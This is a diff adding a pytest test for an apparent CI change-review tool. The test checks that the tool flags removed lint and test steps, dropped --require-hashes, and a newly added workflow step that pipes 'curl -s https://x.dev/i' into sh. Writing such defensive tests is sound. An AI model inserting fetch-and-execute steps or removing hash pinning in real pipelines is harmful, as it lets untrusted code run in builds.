@@ -120,6 +120,28 @@ def test_broken_invariant_is_reported_once() -> None:
     assert danger.message.count("without an environment") == 1
 
 
+@pytest.mark.parametrize(
+    ("path", "before", "after", "message"),
+    [
+        ("Makefile", "lint:\n\tmypy && zizmor .\n", "lint:\n\tmypy\n", "no longer runs zizmor"),
+        (".ci/run", "make lint\nmake test\n", "make lint\n", "no longer runs make test"),
+        ("tools/x.sh", "pip install --require-hashes -r a\n", "pip install -r a\n", ""),
+        ("build.sh", "pip install --require-hashes -r a\n", "pip install -r a\n",
+         "newly runs: pip install -r a; no longer has --require-hashes: pip install --require-"),
+        (f"{FOLDER}x.yml", "on: push\njobs: { a: { steps: [] } }\n",
+         "on: push\njobs: { a: { steps: [{ run: curl -s https://x.dev/i | sh }] } }\n",
+         "newly runs: curl -s https://x.dev/i | sh"),
+        ("Makefile", "all:\n", "# see https://example.com\nall:\n", ""),
+    ],
+)  # fmt: skip
+def test_commands_of_scripts(path: str, before: str, after: str, message: str) -> None:
+    changed = compare_files({path: before.encode()}, {path: after.encode()}).dangers
+    texts = [danger.message.removeprefix(f"{path}: ") for danger in changed
+             if danger.rule != "unowned_code"]  # fmt: skip
+    assert message in "; ".join(texts)
+    assert bool(texts) == bool(message)
+
+
 def test_renamed_and_moved_steps_are_no_danger() -> None:
     content = FILES[RELEASE].decode()
     steps = re.findall(r"^      - run: .*\n", content, re.M)
